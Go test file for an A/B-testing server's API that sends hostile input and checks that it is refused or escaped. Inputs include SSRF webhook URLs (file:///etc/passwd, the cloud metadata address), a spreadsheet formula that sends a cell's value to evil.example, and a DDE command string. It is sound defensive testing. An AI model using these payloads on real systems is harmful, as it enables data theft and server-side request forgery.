package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/liftlab/lift/experiment"
	"github.com/liftlab/lift/jobs"
	"github.com/liftlab/lift/privacy"
)

// The tests of this file send hostile and careless input through the HTTP server
// and check both the answer and what is stored afterwards.

// refused sends a request as admin and checks it is answered 400 with a message
// that starts with the field's JSON path.
func (ts *tserver) refused(method, path string, body any, field string) {
	ts.t.Helper()
	status, b := ts.do(method, path, ts.admin, body)
	if status != http.StatusBadRequest {
		ts.t.Errorf("%s %s %v: status %d (%s), want 400 naming %s", method, path, body, status, b, field)
		return
	}
	if e := errorOf(ts.t, b); !strings.HasPrefix(e.Message, field+":") {
		ts.t.Errorf("%s %s %v: message %q does not start with %q", method, path, body, e.Message, field+":")
	}
}

// hookJobServer is a test server whose scheduler retries retries times after
// backoff, with the deps' checks, and whose webhooks may reach loopback addresses
// (lift serve --webhook-allow 127.0.0.1). after, when set, sees every attempt.
func hookJobServer(t *testing.T, hooks string, retries int, backoff time.Duration, after func(*experiment.JobRun)) *tserver {
	t.Helper()
	policy, err := jobs.ParseWebhookAllow(hooks)
	if err != nil {
		t.Fatal(err)
	}
	var sched *jobs.Scheduler
	ts := newTestServer(t, func(o *Options) {
		db := o.Store
		deps := jobs.Deps{Store: db, Webhooks: policy, Logger: slog.New(slog.DiscardHandler), Digest: func(ctx context.Context, j *experiment.Job, p time.Time, target string) (*experiment.Digest, error) {
			return BuildDigest(ctx, db, ResultsOver(db), j, p, target, DigestOptions{Privacy: privacy.DefaultOptions()})
		}}
		if sched, err = jobs.New(db, jobs.Kinds(deps), jobs.Options{Retries: retries, Backoff: backoff, Checks: jobs.Checks(deps),
			AfterRun: after, Logger: slog.New(slog.DiscardHandler)}); err != nil {
			t.Fatal(err)
		}
		o.Jobs = sched
	})
	if err := sched.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sched.Stop() })
	return ts
}

// TestScheduleMinimums: every form of schedule is held to one run a minute at
// most, holdouts to one rotation a day, the unit "m" is refused as ambiguous, and
// durations are answered in the unit they were given. Nothing refused is stored.
func TestScheduleMinimums(t *testing.T) {
	ts := hookJobServer(t, "", -1, time.Second, nil)
	job := func(kv ...any) map[string]any {
		m := map[string]any{"name": "j", "kind": "results_refresh"}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i].(string)] = kv[i+1]
		}
		return m
	}
	for _, c := range []struct {
		body  map[string]any
		field string
	}{
		{job("cron", "@every 1s"), "cron"},
		{job("cron", "@every 1h"), "cron"}, // @every is refused: the every field has the one duration parser
		{job("cron", " @every 30s"), "cron"},
		{job("every", "30s"), "every"},
		{job("every", "1ns"), "every"},
		{job("every", "1m"), "every"}, // ambiguous
		{job("every", "1mo"), "every"},
		{job("every", 0.5), "every"}, // half a second, as a number of seconds
	} {
		ts.refused("POST", "/v1/jobs", c.body, c.field)
	}
	if js, err := ts.db.ListJobs(context.Background()); err != nil || len(js) != 0 {
		t.Fatalf("refused jobs were stored: %v, %v", js, err)
	}
	status, b := ts.do("POST", "/v1/jobs", ts.admin, job("every", "1m"))
	if e := errorOf(t, b); status != 400 || !strings.Contains(e.Message, `"1min"`) || !strings.Contains(e.Message, `"30d"`) {
		t.Errorf("every 1m: %d %q, want a message saying to write 1min or 30d", status, e.Message)
	}

	for _, c := range []struct{ every, want string }{{"15min", "15min"}, {"90d", "90d"}, {"2w", "14d"}, {"36h", "36h"}, {"1h30min", "90min"}} {
		var got map[string]any
		ts.must(http.StatusCreated, "POST", "/v1/jobs", job("name", "every-"+c.every, "every", c.every), &got)
		if got["every"] != c.want {
			t.Errorf("every %q answered %v, want %q", c.every, got["every"], c.want)
		}
		ts.must(http.StatusOK, "GET", "/v1/jobs/every-"+c.every, nil, &got)
		if got["every"] != c.want {
			t.Errorf("every %q read back as %v, want %q", c.every, got["every"], c.want)
		}
	}
	ts.must(http.StatusCreated, "POST", "/v1/jobs", job("name", "hourly", "cron", "@hourly"), nil)
	ts.must(http.StatusCreated, "POST", "/v1/jobs", job("name", "minutely", "cron", "* * * * *"), nil)

	for _, c := range []struct {
		period any
		want   string // "" : refused
	}{
		{"1ns", ""}, {"1m", ""}, {"30m", ""}, {"12h", ""}, {"1mo", ""}, {"1y", ""}, {"-90d", ""}, {60, ""},
		{"90d", "90d"}, {"2w", "14d"}, {"24h", "1d"}, {"36h", "36h"},
	} {
		name := "h" + strings.NewReplacer("-", "neg", "m", "min").Replace(fmt.Sprint(c.period))
		body := map[string]any{"name": name, "fraction": 0.05, "rotation_period": c.period}
		if c.want == "" {
			ts.refused("POST", "/v1/holdouts", body, "rotation_period")
			ts.must(http.StatusNotFound, "GET", "/v1/holdouts/"+name, nil, nil)
			continue
		}
		var h map[string]any
		ts.must(http.StatusCreated, "POST", "/v1/holdouts", body, &h)
		if h["rotation_period"] != c.want {
			t.Errorf("rotation_period %v answered %v, want %q", c.period, h["rotation_period"], c.want)
		}
		ts.must(http.StatusOK, "GET", "/v1/holdouts/"+name, nil, &h)
		if h["rotation_period"] != c.want {
			t.Errorf("rotation_period %v read back as %v, want %q", c.period, h["rotation_period"], c.want)
		}
	}
}

// TestLateValidation: what used to fail only later (at results, at a run, at a
// decision) is refused at creation, with the field named, and nothing is stored.
func TestLateValidation(t *testing.T) {
	start := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
	ts := newTestServerAt(t, start)
	ts.must(http.StatusCreated, "POST", "/v1/metrics", map[string]any{"name": "revenue", "event_type": "purchase", "aggregation": "sum"}, nil)
	ts.must(http.StatusCreated, "POST", "/v1/metrics", map[string]any{"name": "visits", "event_type": "visit", "aggregation": "count"}, nil)
	exp := func(variants []string, metrics ...any) map[string]any {
		var vs []map[string]any
		for _, v := range variants {
			vs = append(vs, map[string]any{"name": v, "weight": 1 / float64(len(variants))})
		}
		return map[string]any{"key": "bad", "variants": vs, "metrics": metrics}
	}
	two := []string{"control", "treatment"}
	for _, c := range []struct {
		name  string
		body  map[string]any
		field string
	}{
		{"unknown metric", exp(two, "revenue", "revenu"), "metrics[1]"},
		{"two primary metrics", exp(two, map[string]any{"name": "revenue", "primary": true}, map[string]any{"name": "visits", "primary": true}), "metrics[1].primary"},
		{"bell in a variant name", exp([]string{"control", "treat\u0007ment"}), "variants[1].name"},
		{"NUL in a variant name", exp([]string{"control\u0000x", "treatment"}), "variants[0].name"},
		{"newline in a variant name", exp([]string{"control", "a\nb"}), "variants[1].name"},
		{"direction override in a variant name", exp([]string{"control", "\u202etnemtaert"}), "variants[1].name"},
		{"10 kB variant name", exp([]string{"control", strings.Repeat("x", 10_000)}), "variants[1].name"},
	} {
		t.Run(c.name, func(t *testing.T) { ts.refused("POST", "/v1/experiments", c.body, c.field) })
	}
	planned := exp(two, map[string]any{"name": "revenue", "primary": true}, "visits")
	planned["analysis"] = map[string]any{"primary_metric": "visits"}
	ts.refused("POST", "/v1/experiments", planned, "analysis.primary_metric")
	ts.must(http.StatusNotFound, "GET", "/v1/experiments/bad", nil, nil)

	// A name of 128 bytes with spaces and accents is a fine variant name.
	ok := exp([]string{"control", "Nouveau bouton « payer » " + strings.Repeat("x", 128-len("Nouveau bouton « payer » "))}, map[string]any{"name": "revenue", "primary": true}, "visits")
	ok["key"] = "checkout"
	ts.must(http.StatusCreated, "POST", "/v1/experiments", ok, nil)
	// A draft cannot be patched into naming a metric that does not exist either.
	ts.refused("PATCH", "/v1/experiments/checkout", map[string]any{"metrics": []any{"revenue", "refunds"}}, "metrics[1]")
	ts.must(http.StatusOK, "POST", "/v1/experiments/checkout/start", nil, nil)

	// An exposure stamped before its experiment started (beyond a minute of clock skew).
	x := func(key string, at time.Time) map[string]any {
		return map[string]any{"exposures": []map[string]any{
			{"experiment": key, "unit": "u1", "variant": "control", "ts": start.Add(time.Hour)},
			{"experiment": key, "unit": "u2", "variant": "control", "ts": at},
		}}
	}
	exposures := func() int {
		t.Helper()
		var n int
		if err := ts.db.SQL().QueryRow(`SELECT count(*) FROM exposures`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	ts.refused("POST", "/v1/exposures", x("checkout", start.Add(-time.Hour)), "exposures[1].ts")
	ts.refused("POST", "/v1/exposures", x("checkout", time.Date(1999, 1, 1, 0, 0, 0, 0, time.UTC)), "exposures[1].ts")
	if n := exposures(); n != 0 {
		t.Fatalf("after the refused batches the store holds %d exposures, want 0", n)
	}
	ts.must(http.StatusOK, "POST", "/v1/exposures", x("checkout", start.Add(-30*time.Second)), nil) // within the skew
	if n := exposures(); n != 2 {
		t.Fatalf("the store holds %d exposures, want 2", n)
	}

	// A backfill: the experiment is started with started_at in the past, and
	// exposures from then on are accepted. started_at is refused after the
	// server's clock, before the store's floor, and when not a time; a draft
	// refused so stays a draft.
	past := map[string]any{"key": "replay", "variants": []map[string]any{{"name": "control", "weight": 0.5}, {"name": "treatment", "weight": 0.5}}}
	ts.must(http.StatusCreated, "POST", "/v1/experiments", past, nil)
	for _, c := range []struct {
		name string
		body any
	}{
		{"in the future", map[string]any{"started_at": start.Add(time.Minute)}},
		{"before 1900", map[string]any{"started_at": "1899-12-31T00:00:00Z"}},
		{"not a time", map[string]any{"started_at": "last week"}},
	} {
		t.Run("started_at "+c.name, func(t *testing.T) { ts.refused("POST", "/v1/experiments/replay/start", c.body, "started_at") })
	}
	var draft experiment.Experiment
	ts.must(http.StatusOK, "GET", "/v1/experiments/replay", nil, &draft)
	if draft.Status != experiment.Draft || draft.StartedAt != nil {
		t.Fatalf("after refused starts: %s started at %v, want a draft", draft.Status, draft.StartedAt)
	}
	backfill := start.Add(-30 * 24 * time.Hour)
	var started experiment.Experiment
	ts.must(http.StatusOK, "POST", "/v1/experiments/replay/start", map[string]any{"started_at": backfill}, &started)
	if started.StartedAt == nil || !started.StartedAt.Equal(backfill) {
		t.Fatalf("started_at %v, want %v", started.StartedAt, backfill)
	}
	ts.refused("POST", "/v1/exposures", x("replay", backfill.Add(-time.Hour)), "exposures[1].ts")
	ts.must(http.StatusOK, "POST", "/v1/exposures", x("replay", backfill.Add(time.Hour)), nil)
	if n := exposures(); n != 4 {
		t.Fatalf("the store holds %d exposures, want 4", n)
	}
	// The start, with its time, is in the audit log.
	var audit string
	if err := ts.db.SQL().QueryRow(`SELECT CAST(after AS VARCHAR) FROM audit WHERE action = 'experiment.start' AND key = 'replay'`).Scan(&audit); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(audit, `"started_at":"2026-01-30T10:00:00Z"`) {
		t.Errorf("audit entry %s does not record started_at 2026-01-30T10:00:00Z", audit)
	}

	// Jobs whose target does not exist.
	sched := hookJobServer(t, "", -1, time.Second, nil)
	sched.must(http.StatusCreated, "POST", "/v1/holdouts", map[string]any{"name": "global", "fraction": 0.05}, nil)
	for _, c := range []struct {
		body  map[string]any
		field string
	}{
		{map[string]any{"name": "r", "kind": "results_refresh", "every": "1h", "target": "nope"}, "target"},
		{map[string]any{"name": "m", "kind": "monitor", "every": "1h", "target": "nope"}, "target"},
		{map[string]any{"name": "d", "kind": "digest", "every": "7d", "target": "nope"}, "target"},
		{map[string]any{"name": "d", "kind": "digest", "every": "7d", "target": "nope", "params": map[string]any{"subject": "holdout"}}, "target"},
		{map[string]any{"name": "d", "kind": "digest", "every": "7d", "target": "nope", "params": map[string]any{"subject": "journey"}}, "target"},
	} {
		sched.refused("POST", "/v1/jobs", c.body, c.field)
	}
	sched.must(http.StatusCreated, "POST", "/v1/jobs", map[string]any{"name": "d", "kind": "digest", "every": "7d", "target": "global", "params": map[string]any{"subject": "holdout"}}, nil)
	if js, err := sched.db.ListJobs(context.Background()); err != nil || len(js) != 1 {
		t.Errorf("jobs stored: %d (%v), want only the valid one", len(js), err)
	}
}

// TestJobParams: params are decoded strictly at creation (types, unknown fields,
// values), webhooks are http(s) URLs to allowed hosts only, and a webhook is never
// followed through a redirect.
func TestJobParams(t *testing.T) {
	ts := hookJobServer(t, "", -1, time.Second, nil) // the default policy: public addresses only
	setupPrivate(t, ts)
	mon := func(params any) map[string]any {
		return map[string]any{"name": "watch", "kind": "monitor", "every": "1h", "target": "checkout", "params": params}
	}
	for _, c := range []struct {
		params any
		field  string
	}{
		{map[string]any{"webhok": "https://hooks.example.com/x"}, "params.webhok"},
		{map[string]any{"webhook": 42}, "params.webhook"},
		{map[string]any{"stale_after": true}, "params.stale_after"},
		{map[string]any{"stale_after": "1m"}, "params.stale_after"}, // ambiguous
		{map[string]any{"stale_after": 5}, "params.stale_after"},    // 5 seconds: below a minute
		{map[string]any{"srm_concentration": -1}, "params.srm_concentration"},
		{map[string]any{"srm_concentration": "many"}, "params.srm_concentration"},
		{[]any{"https://hooks.example.com/x"}, "params"},
		{"https://hooks.example.com/x", "params"},
		{map[string]any{"webhook": "ftp://hooks.example.com/x"}, "params.webhook"},
		{map[string]any{"webhook": "file:///etc/passwd"}, "params.webhook"},
		{map[string]any{"webhook": "gopher://hooks.example.com/"}, "params.webhook"},
		{map[string]any{"webhook": "https:///no-host"}, "params.webhook"},
		{map[string]any{"webhook": "https://user:secret@hooks.example.com/"}, "params.webhook"},
		{map[string]any{"webhook": "http://127.0.0.1:8080/"}, "params.webhook"},
		{map[string]any{"webhook": "http://[::1]:8080/"}, "params.webhook"},
		{map[string]any{"webhook": "http://localhost:8080/"}, "params.webhook"},
		{map[string]any{"webhook": "http://169.254.169.254/latest/meta-data/"}, "params.webhook"},
		{map[string]any{"webhook": "http://10.1.2.3/"}, "params.webhook"},
		{map[string]any{"webhook": "http://[::ffff:192.168.0.1]/"}, "params.webhook"},
		{map[string]any{"webhook": "http://100.64.0.1/"}, "params.webhook"},
	} {
		ts.refused("POST", "/v1/jobs", mon(c.params), c.field)
	}
	for _, c := range []struct {
		kind   string
		params any
		field  string
	}{
		{"results_refresh", map[string]any{"webhook": "https://hooks.example.com/x"}, "params.webhook"},
		{"digest", map[string]any{"subject": 3}, "params.subject"},
		{"digest", map[string]any{"subjects": "holdout"}, "params.subjects"},
	} {
		ts.refused("POST", "/v1/jobs", map[string]any{"name": "j", "kind": c.kind, "every": "1h", "params": c.params}, c.field)
	}
	if js, err := ts.db.ListJobs(context.Background()); err != nil || len(js) != 0 {
		t.Fatalf("refused jobs were stored: %d, %v", len(js), err)
	}
	var j experiment.Job
	ts.must(http.StatusCreated, "POST", "/v1/jobs", mon(map[string]any{"webhook": "https://hooks.example.com/services/T0/B0/x", "stale_after": "2d"}), &j)
	if !strings.Contains(string(j.Params), "hooks.example.com") {
		t.Errorf("stored params %s", j.Params)
	}

	// With loopback allowed (as tests need), a webhook that redirects is not
	// followed: the delivery fails, and the redirect's target hears nothing.
	hs := hookJobServer(t, "127.0.0.1", -1, time.Second, nil)
	setupPrivate(t, hs)
	var reached sync.Map
	inner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reached.Store("inner", true) }))
	defer inner.Close()
	redirect := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached.Store("redirect", true)
		http.Redirect(w, r, inner.URL+"/internal", http.StatusTemporaryRedirect)
	}))
	defer redirect.Close()
	hs.must(http.StatusCreated, "POST", "/v1/jobs", mon(map[string]any{"webhook": redirect.URL + "/hook"}), nil)
	var run experiment.JobRun
	hs.must(http.StatusAccepted, "POST", "/v1/jobs/watch/run", nil, &run)
	if _, ok := reached.Load("redirect"); !ok || run.Status != experiment.RunFailed {
		t.Errorf("webhook behind a redirect: run %+v, reached %v", run, ok)
	}
	if _, ok := reached.Load("inner"); ok {
		t.Errorf("the redirect was followed to %s", inner.URL)
	}

	// Delivery errors do not tell a closed port from a server that answers: the
	// run's error names the host only, never the target's answer.
	closed := httptest.NewServer(http.NotFoundHandler())
	closedURL := closed.URL
	closed.Close()
	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "secret internal banner", http.StatusInternalServerError)
	}))
	defer failing.Close()
	errs := map[string]string{}
	for name, url := range map[string]string{"closed": closedURL, "failing": failing.URL, "redirect": redirect.URL} {
		hs.must(http.StatusCreated, "POST", "/v1/jobs", map[string]any{"name": "w-" + name, "kind": "monitor", "every": "1h",
			"target": "checkout", "params": map[string]any{"webhook": url + "/hook"}}, nil)
		var r experiment.JobRun
		hs.must(http.StatusAccepted, "POST", "/v1/jobs/w-"+name+"/run", nil, &r)
		errs[name] = strings.ReplaceAll(r.Error, strings.TrimPrefix(url, "http://"), "HOST")
		for _, leak := range []string{"refused", "500", "Internal", "banner", "307", "Redirect", "dial", "connect"} {
			if strings.Contains(r.Error, leak) {
				t.Errorf("delivery error to a %s webhook tells %q: %s", name, leak, r.Error)
			}
		}
	}
	if errs["closed"] != errs["failing"] || errs["closed"] != errs["redirect"] {
		t.Errorf("delivery errors differ by target: %q", errs)
	}
}

// TestTriggerAnswersAtOnce: a failing job triggered by hand answers its first
// attempt with 202 while its retries (an hour of backoff here) go on in the
// background; before, the request was held for the whole retry schedule.
func TestTriggerAnswersAtOnce(t *testing.T) {
	ts := hookJobServer(t, "127.0.0.1", 3, time.Hour, nil)
	setupPrivate(t, ts)
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusServiceUnavailable) }))
	defer down.Close()
	ts.must(http.StatusCreated, "POST", "/v1/jobs", map[string]any{"name": "watch", "kind": "monitor", "every": "1h",
		"target": "checkout", "params": map[string]any{"webhook": down.URL}}, nil)

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "POST", ts.http.URL+"/v1/jobs/watch/run", nil)
	req.Header.Set("Authorization", "Bearer "+ts.admin)
	resp, err := ts.http.Client().Do(req)
	if err != nil {
		t.Fatalf("POST /v1/jobs/watch/run was not answered within 20 s: %v", err)
	}
	defer resp.Body.Close()
	var run experiment.JobRun
	if err := json.NewDecoder(resp.Body).Decode(&run); err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusAccepted || run.ID == 0 || run.Attempt != 1 || run.Status != experiment.RunFailed ||
		resp.Header.Get("Location") != "/v1/jobs/watch/runs" {
		t.Errorf("trigger of a failing job: %d %+v (Location %q), want 202 with the failed first attempt", resp.StatusCode, run, resp.Header.Get("Location"))
	}
	var runs runList
	ts.must(http.StatusOK, "GET", "/v1/jobs/watch/runs", nil, &runs)
	if len(runs.Runs) != 1 || runs.Runs[0].ID != run.ID || runs.Runs[0].Status != experiment.RunFailed {
		t.Errorf("runs stored: %+v, want the one failed attempt (the retry waits its backoff)", runs.Runs)
	}
	// A job that succeeds answers 200 with its record, as before.
	ts.must(http.StatusCreated, "POST", "/v1/jobs", map[string]any{"name": "refresh", "kind": "results_refresh", "every": "1h"}, nil)
	ts.must(http.StatusOK, "POST", "/v1/jobs/refresh/run", nil, &run)
	if run.Status != experiment.RunSucceeded {
		t.Errorf("refresh run %+v", run)
	}
}

// TestWebhookAtLeastOnce: a delivery that fails is retried with the run's retry
// until the webhook answers 2xx, and the alert records how many attempts it took.
func TestWebhookAtLeastOnce(t *testing.T) {
	attempts := make(chan *experiment.JobRun, 8)
	ts := hookJobServer(t, "127.0.0.1", 2, 10*time.Millisecond, func(r *experiment.JobRun) { attempts <- r })
	setupPrivate(t, ts)
	var mu sync.Mutex
	var got []webhookAlert
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b webhookAlert
		_ = json.NewDecoder(r.Body).Decode(&b)
		mu.Lock()
		defer mu.Unlock()
		got = append(got, b)
		if len(got) == 1 {
			w.WriteHeader(http.StatusBadGateway) // the first delivery fails
		}
	}))
	defer hook.Close()
	ts.must(http.StatusCreated, "POST", "/v1/jobs", map[string]any{"name": "watch", "kind": "monitor", "every": "1h",
		"target": "checkout", "params": map[string]any{"webhook": hook.URL}}, nil)
	ts.must(http.StatusAccepted, "POST", "/v1/jobs/watch/run", nil, nil)
	for want := 1; want <= 2; want++ {
		select {
		case r := <-attempts:
			if r.Attempt != want {
				t.Fatalf("attempt %d recorded, want %d", r.Attempt, want)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("attempt %d never ran", want)
		}
	}
	var alerts alertList
	ts.must(http.StatusOK, "GET", "/v1/alerts", nil, &alerts)
	// setupPrivate's data is of March 2026: one stale_data alert, delivered at the second attempt.
	if len(alerts.Alerts) != 1 || alerts.Alerts[0].Kind != "stale_data" || !alerts.Alerts[0].Delivered || alerts.Alerts[0].Attempts != 2 {
		t.Fatalf("alerts %+v, want one stale_data alert delivered after 2 attempts", alerts.Alerts)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 2 || got[0].Alert.ID != alerts.Alerts[0].ID || got[1].Alert.ID != got[0].Alert.ID {
		t.Errorf("webhook received %+v, want the same alert twice", got)
	}
	var runs runList
	ts.must(http.StatusOK, "GET", "/v1/jobs/watch/runs", nil, &runs)
	if len(runs.Runs) != 2 || runs.Runs[0].Status != experiment.RunSucceeded || runs.Runs[1].Status != experiment.RunFailed {
		t.Errorf("runs %+v, want a failed then a succeeded attempt", runs.Runs)
	}
}

// webhookAlert is the part of a webhook body the tests read.
type webhookAlert struct {
	Alert experiment.Alert `json:"alert"`
}

// TestMetricsNeedAKey: /metrics names experiments and counts decisions per arm,
// so it needs an analyst (or admin) key.
func TestMetricsNeedAKey(t *testing.T) {
	ts := newTestServer(t)
	ts.setupRunning()
	ts.must(http.StatusOK, "GET", "/v1/assign?experiment=checkout&unit=u1", nil, nil)
	viewer := ts.key("exec", experiment.RoleViewer)
	ingest := ts.key("sdk", experiment.RoleIngest)
	analyst := ts.key("prom", experiment.RoleAnalyst)
	for _, c := range []struct {
		key    string
		status int
	}{{"", 401}, {viewer, 403}, {ingest, 403}, {analyst, 200}, {ts.admin, 200}} {
		status, b := ts.do("GET", "/metrics", c.key, nil)
		if status != c.status {
			t.Errorf("GET /metrics: %d, want %d", status, c.status)
		}
		if status != 200 && strings.Contains(string(b), "checkout") {
			t.Errorf("a refused /metrics answer names the experiment: %s", b)
		}
		if status == 200 && !strings.Contains(string(b), `lift_assignments_total{experiment="checkout"} 1`) {
			t.Errorf("/metrics with a key lacks the assignment counter")
		}
	}
}

// logBuffer is a slog handler's destination that tests read.
type logBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func loggingServer(t *testing.T) (*tserver, *logBuffer) {
	var logs logBuffer
	ts := newTestServer(t, func(o *Options) {
		o.Logger = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	return ts, &logs
}

// TestShareTokenNeverLogged: however the path is spelled, a share token is not
// in the request log.
func TestShareTokenNeverLogged(t *testing.T) {
	ts, logs := loggingServer(t)
	setupPrivate(t, ts)
	ts.must(http.StatusOK, "PUT", "/v1/experiments/checkout/privacy", map[string]any{"epsilon": 1, "release_epsilon": 0.4}, nil)
	var link shareOut
	ts.must(http.StatusCreated, "POST", "/v1/experiments/checkout/shares", map[string]any{}, &link)
	tok := link.Token
	for _, p := range []string{
		"/shared/" + tok + "/report.html",
		"//shared/" + tok + "/report.html",
		"/shared//" + tok + "/report.html",
		"///shared///" + tok + "//results.csv",
		"/./shared/" + tok + "/report.html",
		"/SHARED/" + tok + "/report.html",
		"/shared/" + tok,
		"/x/" + tok, // a token anywhere
		"/shared/" + escapeFirst(tok) + "/report.html",
	} {
		resp := ts.request("GET", p, "", nil, nil)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	out := logs.String()
	if strings.Count(out, `"msg":"http request"`) < 9 {
		t.Fatalf("the requests were not logged:\n%s", out)
	}
	if strings.Contains(out, tok) || strings.Contains(out, tok[len("lsh_"):]) {
		t.Errorf("a share token is in the log:\n%s", out)
	}
}

// escapeFirst percent-encodes the token's first character, which the server
// decodes before routing and logging.
func escapeFirst(tok string) string { return fmt.Sprintf("%%%02X", tok[0]) + tok[1:] }

// TestCSVFormulaInjection: variant names that a spreadsheet would run are
// escaped in the CSV, numbers (negative ones too) stay numbers, and the Parquet
// export keeps the names as registered.
func TestCSVFormulaInjection(t *testing.T) {
	start := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
	ts := newTestServerAt(t, start)
	ts.must(http.StatusCreated, "POST", "/v1/metrics", map[string]any{"name": "revenue", "event_type": "purchase", "aggregation": "sum"}, nil)
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"} // tabs and CRs are refused in names
	var vs []map[string]any
	arms := float64(len(names) + 1)
	vs = append(vs, map[string]any{"name": "control", "weight": 1 / arms})
	for _, n := range names {
		vs = append(vs, map[string]any{"name": n, "weight": 1 / arms})
	}
	ts.must(http.StatusCreated, "POST", "/v1/experiments", map[string]any{"key": "csv", "variants": vs, "metrics": []any{"revenue"},
		"analysis": map[string]any{"correction": "none"}}, nil)
	ts.must(http.StatusOK, "POST", "/v1/experiments/csv/start", nil, nil)
	var xs []experiment.Exposure
	var evs []experiment.Event
	for i := range 600 {
		v := vs[i%len(vs)]["name"].(string)
		u := "u" + strconv.Itoa(i)
		xs = append(xs, experiment.Exposure{Experiment: "csv", Unit: u, Variant: v, TS: start.Add(time.Minute)})
		// control spends more: the other arms' effects are negative.
		value := float64(i%7) + 1
		if i%len(vs) == 0 {
			value += 5
		}
		evs = append(evs, experiment.Event{EventID: "e" + u, Unit: u, Type: "purchase", TS: start.Add(time.Hour), Value: value})
	}
	ctx := context.Background()
	if err := ts.db.LogExposures(ctx, xs); err != nil {
		t.Fatal(err)
	}
	if _, _, err := ts.db.IngestEvents(ctx, evs); err != nil {
		t.Fatal(err)
	}
	status, body := ts.do("GET", "/v1/experiments/csv/results.csv", ts.admin, nil)
	if status != 200 {
		t.Fatalf("results.csv: %d %s", status, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	negatives := 0
	for _, row := range rows[1:] {
		seen[row[1]] = true
		for i, cell := range row {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '@', '\t', '\r':
				t.Errorf("column %s starts with %q: %q", rows[0][i], cell[0], cell)
			case '-':
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("column %s: %q starts with '-' and is not a number", rows[0][i], cell)
				}
				negatives++
			}
		}
	}
	for _, n := range names {
		if !seen["'"+n] {
			t.Errorf("variant %q is not in the CSV as '%s (rows %q)", n, n, rows)
		}
	}
	if negatives == 0 {
		t.Errorf("no negative number in the CSV: the test lacks the case it checks\n%s", body)
	}

	status, pq := ts.do("GET", "/v1/experiments/csv/results.parquet", ts.admin, nil)
	if status != 200 {
		t.Fatalf("results.parquet: %d", status)
	}
	path := filepath.Join(t.TempDir(), "r.parquet")
	if err := os.WriteFile(path, pq, 0o600); err != nil {
		t.Fatal(err)
	}
	var n int
	if err := ts.db.SQL().QueryRow(`SELECT count(*) FROM read_parquet('`+path+`') WHERE variant = ?`, names[0]).Scan(&n); err != nil || n != 1 {
		t.Errorf("the Parquet export holds %d rows of variant %q (%v), want 1, unescaped", n, names[0], err)
	}
}

// TestPagesSecurityHeaders: every answer carries a Content-Security-Policy that
// forbids scripts, outside resources and framing, and nosniff; the report page
// still renders under it in Chromium, charts and styles included, without a
// single CSP violation.
func TestPagesSecurityHeaders(t *testing.T) {
	ts := newTestServer(t)
	setupPrivate(t, ts)
	ts.must(http.StatusOK, "PUT", "/v1/experiments/checkout/privacy", map[string]any{"epsilon": 1, "release_epsilon": 0.4}, nil)
	var link shareOut
	ts.must(http.StatusCreated, "POST", "/v1/experiments/checkout/shares", map[string]any{}, &link)
	viewer := ts.key("exec", experiment.RoleViewer)
	for _, c := range []struct{ path, key string }{
		{link.URL, ""},
		{"/v1/experiments/checkout/report.html", ts.admin},
		{"/summaries", viewer},
		{"/v1/experiments/checkout/results.csv", ts.admin},
		{"/v1/nothing", ts.admin},
	} {
		resp := ts.request("GET", c.path, c.key, nil, nil)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		h := resp.Header
		csp := h.Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") || strings.Contains(csp, "script-src") ||
			h.Get("X-Content-Type-Options") != "nosniff" || h.Get("X-Frame-Options") != "DENY" {
			t.Errorf("GET %s: %d, headers %v", c.path, resp.StatusCode, h)
		}
	}
	dom, console := chromiumPage(t, ts.http.URL+link.URL)
	if dom == "" {
		return // no chromium: logged
	}
	if !strings.Contains(dom, "<svg") || !strings.Contains(dom, "<style") || !strings.Contains(dom, "DP-noised") {
		t.Errorf("the shared report rendered by Chromium lacks its charts or styles")
	}
	if strings.Contains(console, "Content Security Policy") {
		t.Errorf("Chromium reports CSP violations on the shared report:\n%s", console)
	}
}

// chromiumPage loads url in headless Chromium and returns the rendered DOM and
// Chromium's log (console messages, CSP violations among them); "" when
// Chromium is not installed.
func chromiumPage(t *testing.T, url string) (dom, console string) {
	t.Helper()
	bin, err := exec.LookPath("chromium")
	if err != nil {
		t.Log("chromium not installed (apt-get install chromium): browser check skipped")
		return "", ""
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
